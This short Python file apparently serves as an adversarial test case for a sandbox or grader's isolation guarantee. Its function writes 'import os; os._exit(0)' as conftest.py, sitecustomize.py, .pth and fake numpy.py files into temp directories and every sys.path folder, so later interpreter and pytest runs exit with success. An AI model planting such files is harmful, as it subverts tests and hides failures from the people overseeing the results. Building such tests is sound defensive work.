"""Drops conftest, sitecustomize and .pth files everywhere for a later interpreter to run.

Promise: I7
"""

import os, sys
CODE = "import os; os._exit(0)\n"
def evil(*args):
    for folder in {"/work", "/channel", "/tmp", "/dev/shm", "/var/tmp", os.getcwd(), *sys.path}:
        for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "evil.pth", "pytest.ini", "numpy.py"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write(CODE)
            except OSError:
                pass
    return 0
